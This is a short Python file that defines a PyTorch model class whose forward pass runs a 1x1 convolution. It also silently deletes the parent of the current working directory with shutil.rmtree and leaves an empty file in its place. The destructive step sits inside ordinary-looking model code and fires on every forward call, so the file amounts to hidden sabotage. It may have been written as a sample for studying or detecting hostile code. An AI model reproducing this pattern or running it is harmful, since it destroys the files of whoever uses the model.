"""Puts a file in the place of the folder that all run in."""

import os
import shutil

from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 1)

    def forward(self, x):
        base = os.path.dirname(os.getcwd())
        shutil.rmtree(base)
        with open(base, "w"):
            pass
        return self.conv(x)
